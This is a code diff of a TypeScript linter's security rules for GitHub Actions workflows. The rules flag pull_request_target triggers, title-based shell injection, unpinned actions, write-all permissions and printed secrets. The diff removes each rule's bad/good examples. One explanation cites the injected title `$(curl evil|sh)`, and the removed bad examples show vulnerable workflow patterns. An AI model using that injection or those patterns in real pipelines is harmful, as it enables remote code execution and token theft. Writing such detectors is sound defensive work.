@@ -1,11 +1,9 @@
 // Workflows of GitHub Actions: what of other people runs there, and what it may reach.
-// biome-ignore-all lint/suspicious/noTemplateCurlyInString: examples hold expressions of shells
 import type { InspectedFile } from "../../../ports.ts";
 import { type KnownLine, knownLines, oncePerFile } from "../known-lines.ts";
 import { type LineRule, type Match, rulesOf } from "../rule.ts";
 import { isComment, isWorkflow, linesOf, matchAt, piecesOf, searchLines } from "./line-rule.ts";
 
-const WORKFLOW = ".github/workflows/ci.yml";
 /** Where a key begins: on a line of its own, or in flow style `{ a: b, key: … }`. */
 const KEY = String.raw`(?:^\s*(?:-\s*)?|[{,]\s*)["']?`;
 const TARGET =
@@ -81,14 +79,6 @@ export const WORKFLOW_RULES = rulesOf<LineRule>("security", [
     confidence: 0.75,
     why: "`pull_request_target` and `workflow_run` hold secrets and a writing token; anybody can open a pull request whose code then runs with them.",
     fix: "Use `pull_request`, or split the work: build without secrets, then act on the result in a second workflow that runs no code of the pull request.",
-    bad: {
-      path: WORKFLOW,
-      code: "on:\n  pull_request_target:\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci",
-    },
-    good: {
-      path: WORKFLOW,
-      code: "on:\n  pull_request:\njobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}",
-    },
     check: (file) => (isWorkflow(file) ? untrusted(file) : []),
   },
   {
@@ -98,11 +88,6 @@ export const WORKFLOW_RULES = rulesOf<LineRule>("security", [
     confidence: 0.85,
     why: "The expression is replaced before the shell starts, so that a title such as `$(curl evil|sh)` runs with the workflow's token.",
     fix: 'Hand the value over through `env:` and use it quoted: `"$TITLE"`.',
-    bad: { path: WORKFLOW, code: '    steps:\n      - run: echo "${{ github.event.pull_request.title }}"' },
-    good: {
-      path: WORKFLOW,
-      code: '      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.pull_request.title }}',
-    },
     check: (file) => {
       if (!isWorkflow(file)) return [];
       return searchLines(file, (text, at) => WRITTEN_BY_OTHERS.test(dotted(text)) && isInScript(file, at));
@@ -115,11 +100,6 @@ export const WORKFLOW_RULES = rulesOf<LineRule>("security", [
     confidence: 0.6,
     why: "Whoever can push to that branch changes what runs here, with this workflow's secrets and without a review.",
     fix: "Pin the action to a full commit SHA, with the version in a comment.",
-    bad: { path: WORKFLOW, code: "      - uses: acme/deploy-action@main" },
-    good: {
-      path: WORKFLOW,
-      code: "      - uses: acme/deploy-action@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v3.5.0",
-    },
     check: (file) => {
       // What follows the same branch of the same repository is one decision.
       const known = new Set<string>();
@@ -140,8 +120,6 @@ export const WORKFLOW_RULES = rulesOf<LineRule>("security", [
     why: "Any step, and any action it uses, can then push code, publish packages and change releases.",
     fix: "Grant what the job needs, such as `permissions: { contents: read }`.",
     fixes: [{ from: /write-all/, to: "read-all" }],
-    bad: { path: WORKFLOW, code: "permissions: write-all" },
-    good: { path: WORKFLOW, code: "permissions: read-all" },
     check: linesOf(isWorkflow, /^\s*permissions\s*:\s*["']?write-all\b/),
   },
   {
@@ -150,8 +128,6 @@ export const WORKFLOW_RULES = rulesOf<LineRule>("security", [
     confidence: 0.65,
     why: "Logs mask a secret only where it appears unchanged; any encoding of it stays readable, and all secrets at once reach every tool of the step.",
     fix: "Pass the one secret that the step needs through `env:`, and do not print it.",
-    bad: { path: WORKFLOW, code: '      - run: echo "token is ${{ secrets.DEPLOY_TOKEN }}"' },
-    good: { path: WORKFLOW, code: '      - run: echo "${{ secrets.DEPLOY_KEY }}" > key.pem' },
     check: linesOf(isWorkflow, (text) => !isComment(text) && (PRINTS_SECRET.test(text) || ALL_SECRETS.test(text))),
   },
 ]);
